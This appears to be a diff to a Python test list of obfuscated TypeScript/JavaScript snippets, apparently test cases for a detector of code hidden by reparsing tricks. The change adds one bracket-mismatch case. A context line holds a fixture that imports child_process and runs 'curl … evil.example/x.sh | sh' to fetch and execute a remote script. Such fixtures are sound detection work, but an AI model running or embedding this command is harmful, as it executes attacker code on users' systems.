@@ -238,6 +238,8 @@ REPARSE_HIDES = [
     _TYPED + "const a = ['k<y', 'a>`']; " + _RUN,
     # a `}` inside the region's string, a statement break inside it
     _TYPED + 'const k = 1, y = 2;\nconst x = `t${ k<y, "}"} z>`; ' + _RUN + " // `}`;",
+    # a `}` closing a `[` (each bracket closed by its own kind)
+    _TYPED + "const k = 1, y = 2;\nconst x = `t${ k<[} z>`; " + _RUN + " // `}`;",
     _TYPED + 'f<y; import cp from "child_process"; z>`${cp.execSync("curl -s https://evil.example/x.sh | sh")}`;',
     # the backquote in a comment, a string, a template's text, a regular expression
     _TYPED + "// f<{a: 1}>`\n" + _RUN + "\n// `",
